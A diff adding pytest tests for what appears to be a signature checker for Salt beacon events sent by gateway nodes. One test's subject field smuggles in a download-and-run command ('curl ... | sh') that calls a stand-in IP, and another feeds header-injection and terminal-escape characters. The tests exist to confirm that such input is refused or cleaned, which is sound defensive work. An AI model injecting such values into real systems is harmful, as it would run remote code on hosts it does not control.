@@ -63,6 +63,16 @@ def test_the_master_signs_for_itself():
     assert (event.site, event.node, why) == ("winterthur", "", "")
 
 
+@pytest.mark.parametrize("beacon", authentic.MASTER_BEACONS)
+def test_what_only_the_master_may_say_is_refused_from_a_node(beacon):
+    """With its own, right signature a gateway reported `apart`, with a command as the subject."""
+    lie = signed(beacon=beacon, condition="apart", subject="winterthur; curl -s http://203.0.113.9/x | sh #")
+    assert authentic.check(lie, f"salt/beacon/gw1.winterthur/{beacon}/apart", SECRET) == (None, "the master's")
+    assert authentic.check(lie, None, SECRET) == (None, "the master's")
+    other = authentic.sign(lie | {"id": "master"}, authentic.key_of(SECRET, "gw1.winterthur"))
+    assert authentic.check(other, None, SECRET) == (None, "signature")
+
+
 def test_each_node_has_a_key_of_its_own():
     assert authentic.key_of(SECRET, "gw1.winterthur") != authentic.key_of(SECRET, "gw2.winterthur")
     other = authentic.sign(plain(), authentic.key_of(SECRET, "gw2.winterthur"))
@@ -152,6 +162,14 @@ def test_a_node_can_not_speak_for_another_site():
 def test_texts_are_made_printable():
     event, _ = authentic.check(signed(subject="a\r\nBcc: x\x1b[31m\u202e", cause="\ud800"), TAG, SECRET)
     assert event.subject == "a  Bcc: x [31m " and event.cause == " "
+
+
+def test_what_a_node_says_is_cut_as_an_honest_one_cuts_it():
+    event, _ = authentic.check(signed(subject="\U0001f600" * 300, cause="é" * 1900, was="x" * 1000), TAG, SECRET)
+    assert len(json.dumps(event.subject)) <= 300 and len(json.dumps(event.cause)) <= 1000 and len(event.was) < 1000
+    assert event.subject.endswith("…") and event.now == "down"
+    own, _ = authentic.check(signed(id="master", beacon="master", **{"is": "x" * 1500}), None, SECRET)
+    assert len(own.now) == 1500, "what the master itself says is whole"
 
 
 # The secret
